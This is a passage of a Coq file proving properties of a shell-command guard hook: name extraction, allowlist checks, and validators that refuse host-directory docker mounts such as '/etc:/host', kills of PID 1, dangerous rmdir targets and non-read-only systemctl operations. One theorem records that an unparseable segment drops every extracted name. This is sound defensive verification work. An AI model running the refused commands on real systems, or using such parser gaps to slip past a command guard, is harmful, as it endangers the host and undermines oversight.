  eexists. vm_compute. reflexivity.
Qed.

(** * Further properties *)

Import Client.

(** ** Strings *)

Lemma rstrip_idempotent (s : string) : rstrip (rstrip s) = rstrip s.
Proof.
  induction s as [|c r IH]; [reflexivity|].
  cbn [rstrip]. destruct (rstrip r) as [|d r'] eqn:E.
  - destruct (is_space c) eqn:Hc; [reflexivity|].
    cbn [rstrip str1]. now rewrite Hc.
  - cbn [rstrip]. cbn [rstrip] in IH. now rewrite IH.
Qed.

Lemma rstrip_keeps_head (c : ascii) (r : string) :
  is_space c = false -> exists t, rstrip (String c r) = String c t.
Proof.
  intros Hc. cbn [rstrip]. destruct (rstrip r) as [|d r'].
  - rewrite Hc. now exists EmptyString.
  - now exists (String d r').
Qed.

Lemma lstrip_head (s : string) :
  lstrip s = EmptyString
  \/ exists c r, lstrip s = String c r /\ is_space c = false.
Proof.
  induction s as [|c r IH]; [now left|].
  cbn [lstrip]. destruct (is_space c) eqn:Hc; [exact IH|].
  right. now exists c, r.
Qed.

Lemma strip_idempotent (s : string) : strip (strip s) = strip s.
Proof.
  unfold strip. destruct (lstrip_head s) as [E|(c & r & E & Hc)].
  - rewrite E. reflexivity.
  - rewrite E. destruct (rstrip_keeps_head c r Hc) as [t Ht].
    rewrite Ht. cbn [lstrip]. rewrite Hc, <- Ht.
    apply rstrip_idempotent.
Qed.

Lemma contains_char (x : ascii) (s : string) :
  contains (str1 x) s = has_char x s.
Proof.
  induction s as [|c r IH]; [reflexivity|].
  cbn [contains has_char str1 String.prefix]. rewrite IH.
  destruct (ascii_dec x c) as [->|Hn].
  - rewrite Ascii.eqb_refl. destruct r; reflexivity.
  - destruct (Ascii.eqb_spec c x) as [->|_]; [now elim Hn | reflexivity].
Qed.

Lemma has_char_append (x : ascii) (a b : string) :
  has_char x (a ++ b) = has_char x a || has_char x b.
Proof.
  induction a as [|c a IH]; [reflexivity|].
  cbn [append has_char]. now rewrite IH, orb_assoc.
Qed.

Lemma basename_aux_no_slash (s : string) :
  forall cur, has_char "/" cur = false ->
              has_char "/" (basename_aux cur s) = false.
Proof.
  induction s as [|c r IH]; intros cur Hcur; [exact Hcur|].
  cbn [basename_aux]. destruct (Ascii.eqb c "/") eqn:Hc.
  - now apply IH.
  - apply IH. rewrite has_char_append. cbn [has_char str1].
    now rewrite Hcur, Hc.
Qed.

Lemma basename_no_slash (s : string) : contains "/" (basename s) = false.
Proof.
  change (contains "/" (basename s))
    with (contains (str1 "/") (basename s)).
  rewrite contains_char. now apply basename_aux_no_slash.
Qed.

(** ** The command extractor *)

Lemma token_loop_step (e k : bool) (t0 : string) (rest : list string) :
  token_loop e k (t0 :: rest)
  = let has := endswith t0 ";" in
    let token := chop_semicolon t0 in
    if has && String.eqb token EmptyString then token_loop true k rest
    else if k then token_loop has false rest
    else if mem token OPERATORS then token_loop true false rest
    else if mem token [ "for"; "select" ] then token_loop e true rest
    else if mem token KEYWORDS then token_loop (has || e) false rest
    else if startswith token "-" then token_loop (has || e) false rest
    else if contains "=" token && negb (startswith token "=")
         then token_loop (has || e) false rest
    else if e then basename token :: token_loop has false rest
    else token_loop has false rest.
Proof. reflexivity. Qed.

(** Where a name comes from: a token of the segment that is not an
    operator, a keyword, a flag or an assignment. *)
Lemma token_loop_provenance (tokens : list string) :
  forall e k name,
    In name (token_loop e k tokens) ->
    exists t0, In t0 tokens
               /\ name = basename (chop_semicolon t0)
               /\ command_word (chop_semicolon t0) = true.
Proof.
  induction tokens as [|t0 rest IH]; intros e k name H; [elim H|].
  assert (Hrest : forall e' k', In name (token_loop e' k' rest) ->
                  exists t, In t (t0 :: rest)
                            /\ name = basename (chop_semicolon t)
                            /\ command_word (chop_semicolon t) = true).
  { intros e' k' H'. destruct (IH _ _ _ H') as (t & Ht & Hn & Hw).
    exists t. split; [now right | now split]. }
  rewrite token_loop_step in H. cbv zeta in H.
  destruct (endswith t0 ";" && String.eqb (chop_semicolon t0) EmptyString);
    [eauto|].
  destruct k; [eauto|].
  destruct (mem (chop_semicolon t0) OPERATORS) eqn:C1; [eauto|].
  destruct (mem (chop_semicolon t0) ["for"; "select"]) eqn:C2; [eauto|].
  destruct (mem (chop_semicolon t0) KEYWORDS) eqn:C3; [eauto|].
  destruct (startswith (chop_semicolon t0) "-") eqn:C4; [eauto|].
  destruct (contains "=" (chop_semicolon t0)
            && negb (startswith (chop_semicolon t0) "=")) eqn:C5; [eauto|].
  destruct e; [|eauto].
  destruct H as [<-|H]; [|eauto].
  exists t0. split; [now left|]. split; [reflexivity|].
  unfold command_word. now rewrite C1, C2, C3, C4, C5.
Qed.

Lemma segment_loop_provenance (segments : list string) :
  forall names name,
    segment_loop segments = Some names ->
    In name names ->
    exists seg tokens,
      In seg segments
      /\ Shlex.split (strip seg) = Some tokens
      /\ In name (token_loop true false tokens).
Proof.
  induction segments as [|seg0 rest IH]; intros names name H Hin.
  - inversion H. subst. elim Hin.
  - cbn [segment_loop] in H.
    assert (Hrest : forall l, segment_loop rest = Some l -> In name l ->
                    exists seg tokens,
                      In seg (seg0 :: rest)
                      /\ Shlex.split (strip seg) = Some tokens
                      /\ In name (token_loop true false tokens)).
    { intros l Hl Hn. destruct (IH _ _ Hl Hn) as (seg & tokens & Hs & Ht & Hk).
      exists seg, tokens. split; [now right | now split]. }
    destruct (String.eqb (strip seg0) EmptyString); [eauto|].
    destruct (Shlex.split (strip seg0)) as [tokens|] eqn:E; [|discriminate].
    destruct (segment_loop rest) as [l|]; [|discriminate].
    inversion H. subst names. apply in_app_iff in Hin.
    destruct Hin as [Hin|Hin]; [|eauto].
    exists seg0, tokens. split; [now left | now split].
Qed.

(** X1: every name [extract_commands] returns is the base name of a
    token of one of the segments, and that token, its trailing
    semicolon apart, is not an operator, a keyword, a flag or an
    assignment. *)
Theorem extracted_names_provenance :
  forall (s name : string),
    In name (extract_commands s) ->
    exists seg tokens t0,
      In seg (Re.split_semicolons s)
      /\ Shlex.split (strip seg) = Some tokens
      /\ In t0 tokens
      /\ name = basename (chop_semicolon t0)
      /\ command_word (chop_semicolon t0) = true.
Proof.
  intros s name H. unfold extract_commands in H.
  destruct (segment_loop (Re.split_semicolons s)) as [names|] eqn:E;
    [|elim H].
  destruct (segment_loop_provenance _ _ _ E H) as (seg & tokens & Hs & Ht & Hk).
  destruct (token_loop_provenance _ _ _ _ Hk) as (t0 & Hin & Hn & Hw).
  exists seg, tokens, t0. auto.
Qed.

Lemma extracted_names_provenance_witness :
  exists seg tokens t0,
    In seg (Re.split_semicolons "A=1 /usr/bin/python -m x; ls")
    /\ Shlex.split (strip seg) = Some tokens
    /\ In t0 tokens
    /\ "python" = basename (chop_semicolon t0)
    /\ command_word (chop_semicolon t0) = true.
Proof.
  apply extracted_names_provenance. vm_compute. now left.
Defined.

Lemma extract_commands_no_slash (s name : string) :
  In name (extract_commands s) -> contains "/" name = false.
Proof.
  intros H.
  destruct (extracted_names_provenance s name H)
    as (seg & tokens & t0 & _ & _ & _ & -> & _).
  apply basename_no_slash.
Qed.

Lemma substitution_names_no_slash (fuel : nat) :
  forall s name,
    In name (extract_substitution_commands_fuel fuel s) ->
    contains "/" name = false.
Proof.
  induction fuel as [|fuel IH]; intros s name H; [elim H|].
  cbn [extract_substitution_commands_fuel] in H.
  apply in_flat_map in H. destruct H as (inner & _ & H).
  apply in_app_iff in H. destruct H as [H|H].
  - exact (extract_commands_no_slash _ _ H).
  - exact (IH _ _ H).
Qed.

(** X2: the names the hook compares with the allowlist hold no slash:
    a command given by a path is known by its base name, at top level
    and inside substitutions. *)
Theorem checked_names_are_base_names :
  forall (c name : string),
    In name (all_commands c) -> contains "/" name = false.
Proof.
  intros c name H. unfold all_commands in H. apply in_app_iff in H.
  destruct H as [H|H].
  - exact (extract_commands_no_slash _ _ H).
  - exact (substitution_names_no_slash _ _ _ H).
Qed.

Lemma checked_names_are_base_names_witness :
  contains "/" "python" = false.
Proof.
  apply (checked_names_are_base_names "echo $(/usr/bin/python x.py)").
  vm_compute. auto.
Defined.

(** Tokens that neither end nor open a command give no name once a
    name was taken, and one name at most before. *)
Lemma token_loop_arguments (tokens : list string) :
  forallb argument_token tokens = true ->
  token_loop false false tokens = []
  /\ List.length (token_loop true false tokens) <= 1.
Proof.
  induction tokens as [|t0 rest IH]; intros H; [split; auto|].
  cbn [forallb] in H. apply andb_true_iff in H. destruct H as [Ht Hr].
  destruct (IH Hr) as [IH0 IH1].
  unfold argument_token in Ht.
  repeat (apply andb_true_iff in Ht; destruct Ht as [Ht ?]).
  repeat match goal with
         | H : negb _ = true |- _ => apply negb_true_iff in H
         end.
  assert (Hc : chop_semicolon t0 = t0)
    by (unfold chop_semicolon; now rewrite Ht).
  rewrite !token_loop_step. cbv zeta. rewrite Hc, Ht. cbn [andb orb].
  repeat match goal with
         | H : mem t0 _ = false |- _ => rewrite H; clear H
         end.
  destruct (startswith t0 "-"); [split; assumption|].
  destruct (contains "=" t0 && negb (startswith t0 "="));
    [split; assumption|].
  split; [assumption|]. cbn [List.length]. rewrite IH0. auto.
Qed.

Lemma skip_spaces_no_char (x : ascii) (s : string) :
  has_char x s = false -> has_char x (snd (Re.skip_spaces s)) = false.
Proof.
  induction s as [|c r IH]; intros H; [reflexivity|].
  cbn [Re.skip_spaces]. destruct (is_space c); [|exact H].
  cbn [has_char] in H. apply orb_false_iff in H. destruct H as [_ H].
  specialize (IH H). destruct (Re.skip_spaces r) as [n t]. exact IH.
Qed.

Lemma semicolon_match_none (prev : option ascii) (s : string) :
  has_char ";" s = false -> Re.semicolon_match prev s = None.
Proof.
  intros H. apply (skip_spaces_no_char ";") in H.
  unfold Re.semicolon_match. destruct (Re.lookbehind_ok prev); [|reflexivity].
  destruct (Re.skip_spaces s) as [k1 t]. cbn [snd] in H.
  destruct t as [|c t']; [reflexivity|].
  destruct c as [[] [] [] [] [] [] [] []]; try reflexivity.
  discriminate.
Qed.

Lemma split_semicolons_none (s : string) :
  forall prev cur,
    has_char ";" s = false ->
    Re.split_aux Re.semicolon_match prev 0 cur s = [cur ++ s].
Proof.
  induction s as [|c r IH]; intros prev cur H.
  - cbn. now rewrite append_nil_r.
  - cbn [Re.split_aux]. rewrite (semicolon_match_none prev _ H).
    cbn [has_char] in H. apply orb_false_iff in H. destruct H as [_ H].
    rewrite (IH _ _ H), append_assoc. reflexivity.
Qed.

(** X3: a command without semicolon whose tokens are no operators and
    no keywords yields one name at most: the words after the command
    are arguments. *)
Theorem simple_command_one_name :
  forall (s : string) (tokens : list string),
    has_char ";" s = false ->
    Shlex.split (strip s) = Some tokens ->
    forallb argument_token tokens = true ->
    List.length (extract_commands s) <= 1.
Proof.
  intros s tokens Hs Ht Ha. unfold extract_commands, Re.split_semicolons.
  rewrite (split_semicolons_none s None EmptyString Hs).
  cbn [append segment_loop].
  destruct (String.eqb (strip s) EmptyString); [cbn; lia|].
  rewrite Ht. cbn [segment_loop option_map]. rewrite app_nil_r.
  exact (proj2 (token_loop_arguments tokens Ha)).
Qed.

Lemma simple_command_one_name_witness :
  List.length (extract_commands "grep -r --include=*.py rm /tmp/x") <= 1.
Proof.
  apply (simple_command_one_name
           _ ["grep"; "-r"; "--include=*.py"; "rm"; "/tmp/x"]);
    reflexivity.
Defined.

Lemma segment_loop_unparseable (segments : list string) (seg : string) :
  In seg segments ->
  Shlex.split (strip seg) = None ->
  segment_loop segments = None.
Proof.
  induction segments as [|seg0 rest IH]; intros Hin Hs; [elim Hin|].
  cbn [segment_loop]. destruct Hin as [->|Hin].
  - destruct (String.eqb_spec (strip seg) EmptyString) as [E|_].
    + rewrite E in Hs. discriminate.
    + now rewrite Hs.
  - rewrite (IH Hin Hs).
    destruct (String.eqb (strip seg0) EmptyString); [reflexivity|].
    destruct (Shlex.split (strip seg0)); reflexivity.
Qed.

(** X4: one segment that [shlex] cannot split empties the whole result:
    the names of the other segments are dropped with it. *)
Theorem unparseable_segment_drops_all :
  forall (s seg : string),
    In seg (Re.split_semicolons s) ->
    Shlex.split (strip seg) = None ->
    extract_commands s = [].
Proof.
  intros s seg Hin Hs. unfold extract_commands.
  now rewrite (segment_loop_unparseable _ _ Hin Hs).
Qed.

Lemma unparseable_segment_drops_all_witness :
  extract_commands "ls; unknown_cmd; echo 'a" = [].
Proof.
  apply (unparseable_segment_drops_all _ "echo 'a").
  - vm_compute. auto.
  - reflexivity.
Defined.

(** ** Segments *)

Lemma nonempty_stripped_spec (l : list string) (seg : string) :
  In seg (nonempty_stripped l) ->
  seg <> EmptyString /\ strip seg = seg.
Proof.
  induction l as [|x l IH]; [intros []|].
  cbn [nonempty_stripped].
  destruct (String.eqb_spec (strip x) EmptyString) as [_|Hne]; [exact IH|].
  intros [<-|H]; [|exact (IH H)].
  split; [exact Hne | apply strip_idempotent].
Qed.

Lemma segment_is_stripped (c seg : string) :
  In seg (split_command_segments c) ->
  seg <> EmptyString /\ strip seg = seg.
Proof.
  intros H. unfold split_command_segments in H.
  apply in_flat_map in H. destruct H as (x & _ & H).
  exact (nonempty_stripped_spec _ _ H).
Qed.

(** X5: no segment of [split_command_segments] is empty, and none
    starts or ends with white space. *)
Theorem segments_nonempty_stripped :
  forall (c seg : string),
    In seg (split_command_segments c) ->
    seg <> EmptyString /\ strip seg = seg.
Proof. exact segment_is_stripped. Qed.

Lemma segments_nonempty_stripped_witness :
  "ls -l" <> EmptyString /\ strip "ls -l" = "ls -l".
Proof.
  apply (segments_nonempty_stripped " ls -l  &&   ;; echo hi ; ").
  vm_compute. auto.
Defined.

(** X6: [get_command_for_validation] returns the first segment that
    yields the command, which is one of the segments; the empty string
    stands for no such segment.  For the segments of
    [split_command_segments] the answer is empty exactly when no
    segment yields the command, so the fallback of the hook to the
    whole command string is taken in that case only. *)
Theorem get_command_for_validation_spec :
  forall (cmd : string) (segments : list string),
    (get_command_for_validation cmd segments <> EmptyString ->
     In (get_command_for_validation cmd segments) segments
     /\ mem cmd (extract_commands
                   (get_command_for_validation cmd segments)) = true)
    /\ (forall pre seg post,
          segments = (pre ++ seg :: post)%list ->
          (forall x, In x pre -> mem cmd (extract_commands x) = false) ->
          mem cmd (extract_commands seg) = true ->
          get_command_for_validation cmd segments = seg)
    /\ (forall c,
          segments = split_command_segments c ->
          (get_command_for_validation cmd segments = EmptyString
           <-> forall x, In x segments ->
                         mem cmd (extract_commands x) = false)).
Proof.
  intros cmd segments. split; [|split].
  - induction segments as [|x l IH]; cbn [get_command_for_validation].
    + intros H. now elim H.
    + destruct (mem cmd (extract_commands x)) eqn:E.
      * intros _. split; [now left | exact E].
      * intros H. destruct (IH H) as [Hin Hm]. split; [now right | exact Hm].
  - intros pre seg post -> Hpre Hseg.
    induction pre as [|x pre IH]; cbn [app get_command_for_validation].
    + now rewrite Hseg.
    + rewrite (Hpre x (or_introl eq_refl)). apply IH.
      intros y Hy. apply Hpre. now right.
  - intros c Hc.
    assert (Hne : forall x, In x segments -> x <> EmptyString).
    { intros x Hx. rewrite Hc in Hx.
      exact (proj1 (segment_is_stripped c x Hx)). }
    clear Hc. induction segments as [|x l IH];
      cbn [get_command_for_validation].
    + split; [intros _ y [] | reflexivity].
    + destruct (mem cmd (extract_commands x)) eqn:E.
      * split.
        -- intros H. elim (Hne x (or_introl eq_refl) H).
        -- intros H. rewrite (H x (or_introl eq_refl)) in E. discriminate.
      * rewrite IH; [|intros y Hy; apply Hne; now right].
        split.
        -- intros H y [<-|Hy]; [exact E | exact (H y Hy)].
        -- intros H y Hy. apply H. now right.
Qed.

Lemma get_command_for_validation_spec_witness :
  get_command_for_validation "rm" ["ls -l"; "rm a"; "rm -rf b"] = "rm a".
Proof.
  apply (proj1 (proj2 (get_command_for_validation_spec
                         "rm" ["ls -l"; "rm a"; "rm -rf b"]))
           ["ls -l"] "rm a" ["rm -rf b"]).
  - reflexivity.
  - intros x [<-|[]]. reflexivity.
  - reflexivity.
Defined.

(** ** The validators *)

Lemma chmod_loop_with_mode (rest : list string) :
  forall mode files,
    chmod_loop (Some mode) files rest
    = if existsb is_flag rest then None
      else Some (Some mode, (files ++ rest)%list).
Proof.
  induction rest as [|t rest IH]; intros mode files.
  - cbn. now rewrite app_nil_r.
  - cbn [chmod_loop existsb]. destruct (is_flag t); [reflexivity|].
    cbn [orb]. rewrite IH. now rewrite <- app_assoc.
Qed.

Lemma chmod_mode_prefix (who tail : string) :
  who_letters who = true ->
  chmod_mode_ok (String "+" tail) = true ->
  chmod_mode_ok (who ++ String "+" tail) = true.
Proof.
  intros Hw Ht. induction who as [|c who IH]; [exact Ht|].
  cbn [who_letters] in Hw. apply andb_true_iff in Hw.
  destruct Hw as [Hc Hw]. cbn [append chmod_mode_ok].
  destruct (Ascii.eqb_spec c "+") as [->|_]; [discriminate|].
  rewrite Hc. exact (IH Hw).
Qed.

Lemma chmod_mode_spec (mode : string) :
  chmod_mode_ok mode = true
  <-> exists who, who_letters who = true
                  /\ (mode = who ++ "+x" \/ mode = who ++ "+x" ++ nl).
Proof.
  split.
  - induction mode as [|c r IH]; [discriminate|].
    cbn [chmod_mode_ok]. destruct (Ascii.eqb_spec c "+") as [->|Hc].
    + intros H. exists EmptyString. split; [reflexivity|].
      apply orb_true_iff in H.
      destruct H as [H|H]; apply String.eqb_eq in H; subst r; auto.
    + destruct (mem (str1 c) ["u"; "g"; "o"; "a"]) eqn:Hm; [|discriminate].
      intros H. destruct (IH H) as (who & Hw & Hmode).
      exists (String c who). split.
      * cbn [who_letters]. now rewrite Hm, Hw.
      * destruct Hmode as [->| ->]; auto.
  - intros (who & Hw & Hmode).
    destruct Hmode as [->| ->]; apply (chmod_mode_prefix who _ Hw);
      reflexivity.
Qed.

(** X7: [validate_chmod_command] accepts exactly the commands whose
    tokens are [chmod], a mode made of letters among u, g, o, a
    followed by [+x] (and possibly a final newline), and at least one
    file, none of them starting with a dash. *)
Theorem chmod_allowed_iff :
  forall (s : string),
    fst (validate_chmod_command s) = true
    <-> exists who mode file files,
          Shlex.split s = Some ("chmod" :: mode :: file :: files)
          /\ existsb is_flag (mode :: file :: files) = false
          /\ who_letters who = true
          /\ (mode = who ++ "+x" \/ mode = who ++ "+x" ++ nl).
Proof.
  intros s. unfold validate_chmod_command. split.
  - destruct (Shlex.split s) as [[|t0 rest]|]; try discriminate.
    destruct (String.eqb_spec t0 "chmod") as [->|_]; [|discriminate].
    cbn [negb]. destruct rest as [|mode rest]; [discriminate|].
    cbn [chmod_loop]. destruct (is_flag mode) eqn:Hf; [discriminate|].
    rewrite chmod_loop_with_mode. cbn [app].
    destruct (existsb is_flag rest) eqn:He; [discriminate|].
    destruct rest as [|file files]; [discriminate|].
    destruct (chmod_mode_ok mode) eqn:Hm; [|discriminate].
    intros _. apply chmod_mode_spec in Hm. destruct Hm as (who & Hw & Hmode).
    exists who, mode, file, files. split; [reflexivity|]. split; [|auto].
    cbn [existsb] in *. now rewrite Hf.
  - intros (who & mode & file & files & -> & He & Hw & Hmode).
    change (existsb is_flag (mode :: file :: files))
      with (is_flag mode || existsb is_flag (file :: files)) in He.
    apply orb_false_iff in He. destruct He as [Hf He].
    change (String.eqb "chmod" "chmod") with true. cbn [negb chmod_loop].
    change (existsb is_flag (file :: files))
      with (is_flag file || existsb is_flag files) in He.
    apply orb_false_iff in He. destruct He as [Hf' He].
    rewrite Hf, chmod_loop_with_mode, Hf', He. cbn [app].
    assert (Hm : chmod_mode_ok mode = true)
      by (apply chmod_mode_spec; eauto).
    now rewrite Hm.
Qed.

Lemma chmod_allowed_iff_witness :
  fst (validate_chmod_command "chmod ug+x build.sh run.sh") = true.
Proof.
  apply chmod_allowed_iff.
  exists "ug", "ug+x", "build.sh", ["run.sh"].
  repeat split; auto.
Defined.



(** The interpreter is not among the processes. *)
Lemma pkill_python_refused (s t0 : string) (rest others : list string) :
  Shlex.split s = Some (t0 :: rest) ->
  rev (non_flags rest) = "python" :: others ->
  exists reason, validate_pkill_command s = Ret (false, reason).
Proof.
  intros Hs Hr. unfold validate_pkill_command. rewrite Hs, Hr.
  eexists. reflexivity.
Qed.

(** X9: [validate_systemctl_command] accepts exactly the commands whose
    first token is [systemctl] and whose first argument that is not a
    flag is one of the six operations that only read. *)
Theorem systemctl_allowed_iff :
  forall (s : string),
    fst (validate_systemctl_command s) = true
    <-> exists args operation,
          Shlex.split s = Some ("systemctl" :: args)
          /\ hd_error (non_flags args) = Some operation
          /\ mem operation allowed_operations = true.
Proof.
  intros s. unfold validate_systemctl_command. split.
  - destruct (Shlex.split s) as [[|t0 args]|]; try discriminate.
    destruct (String.eqb_spec t0 "systemctl") as [->|_]; [|discriminate].
    cbn [negb]. cbv zeta.
    destruct (hd_error (non_flags args)) as [o|] eqn:Ho; [|discriminate].
    destruct (mem o allowed_operations) eqn:Hm; [|discriminate].
    intros _. now exists args, o.
  - intros (args & o & -> & Ho & Hm).
    change (String.eqb "systemctl" "systemctl") with true.
    cbn [negb]. cbv zeta. now rewrite Ho, Hm.
Qed.

Lemma systemctl_allowed_iff_witness :
  fst (validate_systemctl_command "systemctl --user status nginx") = true.
Proof.
  apply systemctl_allowed_iff.
  exists ["--user"; "status"; "nginx"], "status". repeat split.
Defined.

Lemma rmdir_target_loop_none (targets : list string) :
  rmdir_target_loop targets = None
  <-> forallb rmdir_target_ok targets = true.
Proof.
  induction targets as [|t l IH]; [cbn; tauto|].
  cbn [rmdir_target_loop forallb]. unfold rmdir_target_ok at 1.
  destruct (mem t rmdir_dangerous_patterns); [split; discriminate|].
  destruct (contains ".." t && negb (startswith t "./"));
    [split; discriminate|].
  exact IH.
Qed.



Lemma docker_loop_none (tokens : list string) :
  docker_loop tokens = None
  <-> forall pre flag spec post,
        tokens = (pre ++ flag :: spec :: post)%list ->
        system_mount flag spec = false.
Proof.
  induction tokens as [|t rest IH].
  - split; [|reflexivity]. intros _ pre flag spec post H.
    now destruct pre.
  - cbn [docker_loop].
    assert (Hstep : docker_loop rest = None ->
                    (forall spec r, rest = spec :: r ->
                                    system_mount t spec = false) ->
                    forall pre flag spec post,
                      t :: rest = (pre ++ flag :: spec :: post)%list ->
                      system_mount flag spec = false).
    { intros Hr Hhead pre flag spec post E. destruct pre as [|p pre].
      - inversion E. subst. now apply (Hhead spec post).
      - inversion E. subst. now apply (proj1 IH Hr pre flag spec post). }
    assert (Hback : (forall pre flag spec post,
                        t :: rest = (pre ++ flag :: spec :: post)%list ->
                        system_mount flag spec = false) ->
                    docker_loop rest = None).
    { intros H. apply IH. intros pre flag spec post E.
      apply (H (t :: pre) flag spec post). now rewrite E. }
    destruct (mem t ["-v"; "--volume"]) eqn:Hm.
    + destruct rest as [|spec r].
      * split; [|reflexivity]. intros _. apply Hstep; [reflexivity|].
        intros spec r E. discriminate.
      * destruct (contains ":" spec
                  && mem (hd EmptyString (split_char ":" spec))
                         ["/"; "/home"; "/etc"; "/usr"; "/var"]) eqn:Hs.
        -- split; [discriminate|]. intros H.
           specialize (H [] t spec r eq_refl). unfold system_mount in H.
           rewrite Hm in H. cbn [andb] in H. congruence.
        -- split.
           ++ intros Hr. apply Hstep; [exact Hr|].
              intros spec' r' E. inversion E. subst. unfold system_mount.
              rewrite Hm. cbn [andb]. exact Hs.
           ++ exact Hback.
    + split.
      * intros Hr. apply Hstep; [exact Hr|].
        intros spec r E. unfold system_mount. now rewrite Hm.
      * destruct rest; exact Hback.
Qed.

(** X11: [validate_docker_command] refuses a command whose first token
    is [docker] exactly when a token [-v] or [--volume] is followed by
    a token with a colon whose part before the first colon is one of
    five system directories. *)
Theorem docker_refused_iff :
  forall (s : string) (args : list string),
    Shlex.split s = Some ("docker" :: args) ->
    (fst (validate_docker_command s) = false
     <-> exists pre flag spec post,
           "docker" :: args = (pre ++ flag :: spec :: post)%list
           /\ system_mount flag spec = true).
Proof.
  intros s args Hs. unfold validate_docker_command. rewrite Hs.
  change (String.eqb "docker" "docker") with true. cbn [negb].
  destruct (docker_loop ("docker" :: args)) as [reason|] eqn:Hl.
  - split; [|reflexivity]. intros _.
    assert (Hn : ~ (forall pre flag spec post,
                       "docker" :: args = (pre ++ flag :: spec :: post)%list ->
                       system_mount flag spec = false)).
    { intros H. apply docker_loop_none in H. congruence. }
    clear Hl Hs. revert Hn. generalize ("docker" :: args). intros tokens.
    induction tokens as [|t rest IH]; intros Hn.
    + elim Hn. intros pre flag spec post E. now destruct pre.
    + destruct rest as [|spec r].
      * elim Hn. intros pre flag spec post E.
        destruct pre as [|p [|q pre]]; discriminate.
      * destruct (system_mount t spec) eqn:Hm.
        -- now exists [], t, spec, r.
        -- destruct IH as (pre & flag & spec' & post & E & Hm').
           ++ intros H. apply Hn. intros pre flag spec' post E.
              destruct pre as [|p pre].
              ** inversion E. now subst.
              ** inversion E. subst. now apply (H pre flag spec' post).
           ++ exists (t :: pre), flag, spec', post. split; [|exact Hm'].
              cbn [app]. now rewrite E.
  - split; [discriminate|]. intros (pre & flag & spec & post & E & Hm).
    rewrite (proj1 (docker_loop_none _) Hl pre flag spec post E) in Hm.
    discriminate.
Qed.

Lemma docker_refused_iff_witness :
  fst (validate_docker_command "docker run -v /etc:/host alpine") = false.
Proof.
  apply (docker_refused_iff "docker run -v /etc:/host alpine"
           ["run"; "-v"; "/etc:/host"; "alpine"]); [reflexivity|].
  exists ["docker"; "run"], "-v", "/etc:/host", ["alpine"].
  split; reflexivity.
Defined.

Lemma kill_pid_loop_none (pids : list string) :
  kill_pid_loop pids = None <-> forallb kill_pid_ok pids = true.
Proof.
  induction pids as [|p l IH]; [cbn; tauto|].
  cbn [kill_pid_loop forallb]. unfold kill_pid_ok at 1.
  destruct (startswith p "%"); [exact IH|]. cbn [orb].
  destruct (py_int p) as [n|]; [|exact IH].
  destruct (Z.eqb_spec n 1) as [->|Hn1]; [split; discriminate|].
  destruct (Z.ltb_spec n 0) as [Hneg|Hpos].
  - assert (E : (100 <=? n)%Z = false) by (apply Z.leb_gt; lia).
    rewrite E. split; discriminate.
  - destruct (Z.ltb_spec n 100) as [Hlow|Hhigh].
    + assert (E : (100 <=? n)%Z = false) by (apply Z.leb_gt; lia).
      rewrite E. split; discriminate.
    + assert (E : (100 <=? n)%Z = true) by (apply Z.leb_le; lia).
      rewrite E. exact IH.
Qed.

Lemma non_flags_in (args : list string) (t : string) :
  In t (non_flags args) <-> In t args /\ startswith t "-" = false.
Proof.
  unfold non_flags, is_flag. rewrite filter_In, negb_true_iff. reflexivity.
Qed.

Lemma non_flags_nonempty (args : list string) :
  non_flags args <> []
  <-> exists t, In t args /\ startswith t "-" = false.
Proof.
  split.
  - destruct (non_flags args) as [|t l] eqn:E; [intros H; now elim H|].
    intros _. exists t. apply non_flags_in. rewrite E. now left.
  - intros (t & Ht) E. apply non_flags_in in Ht. rewrite E in Ht.
    destruct Ht.
Qed.

(** The validator in terms of its loop. *)
Lemma kill_accepts_iff :
  forall (s : string),
    fst (validate_kill_command s) = true
    <-> exists args,
          Shlex.split s = Some ("kill" :: args)
          /\ (kill_loop None [] args = Kill_list
              \/ exists signal pids,
                   kill_loop None [] args = Kill_send signal pids
                   /\ pids <> []
                   /\ signal_refused signal = None
                   /\ forallb kill_pid_ok pids = true).
Proof.
  intros s. unfold validate_kill_command. split.
  - destruct (Shlex.split s) as [[|t0 args]|]; try discriminate.
    destruct (String.eqb_spec t0 "kill") as [->|_]; [|discriminate].
    cbn [negb]. intros H. exists args. split; [reflexivity|]. revert H.
    destruct (kill_loop None [] args) as [|signal pids]; [now left|].
    destruct pids as [|p l]; [discriminate|].
    destruct (signal_refused signal) eqn:Hsig; [discriminate|].
    destruct (kill_pid_loop (p :: l)) eqn:Hp; [discriminate|].
    intros _. right. exists signal, (p :: l).
    split; [reflexivity|]. split; [discriminate|]. split; [exact Hsig|].
    now apply kill_pid_loop_none.
  - intros (args & -> & [Hl|(signal & pids & Hl & Hne & Hsig & Hok)]);
      change (String.eqb "kill" "kill") with true; cbn [negb]; rewrite Hl.
    + reflexivity.
    + destruct pids as [|p l]; [now elim Hne|]. rewrite Hsig.
      apply kill_pid_loop_none in Hok. now rewrite Hok.
Qed.

Lemma names_signal_body (token : string) :
  is_flag token = true ->
  Shlex.nonempty (upper (drop 1 token)) = names_signal token.
Proof.
  unfold is_flag, names_signal. intros H. rewrite H. cbn [andb].
  destruct token as [|c r]; [discriminate|].
  unfold startswith in H. cbn [String.prefix] in H.
  destruct (ascii_dec "-" c) as [<-|_]; [|discriminate].
  destruct r; reflexivity.
Qed.

Lemma kill_loop_plain (args : list string) :
  ~ In "-s" args ->
  (forall t, In t args -> t <> "-l" /\ t <> "--list") ->
  forall signal pids,
    kill_loop signal pids args
    = Kill_send (last_signal signal args) (pids ++ non_flags args)%list.
Proof.
  induction args as [|t rest IH]; intros Hs Hl signal pids.
  - cbn. now rewrite app_nil_r.
  - assert (Hrest : ~ In "-s" rest) by (intros F; apply Hs; now right).
    assert (Ht : String.eqb t "-s" = false).
    { apply String.eqb_neq. intros ->. apply Hs. now left. }
    destruct (Hl t (or_introl eq_refl)) as [Hl1 Hl2].
    apply String.eqb_neq in Hl1, Hl2.
    specialize (IH Hrest (fun x Hx => Hl x (or_intror Hx))).
    cbn [kill_loop]. unfold non_flags. cbn [filter]. fold (non_flags rest).
    unfold last_signal. cbn [fold_left].
    fold (last_signal (if names_signal t then Some (upper (drop 1 t))
                       else signal) rest).
    destruct (is_flag t) eqn:Hf; cbn [negb].
    + rewrite Hl1, Hl2, Ht. cbn [orb]. cbv zeta.
      rewrite (names_signal_body t Hf). apply IH.
    + assert (Hn : names_signal t = false)
        by (unfold names_signal; unfold is_flag in Hf; now rewrite Hf).
      rewrite Hn, IH, <- app_assoc. reflexivity.
Qed.

Lemma kill_loop_list (args : list string) :
  ~ In "-s" args ->
  (exists t, In t args /\ (t = "-l" \/ t = "--list")) ->
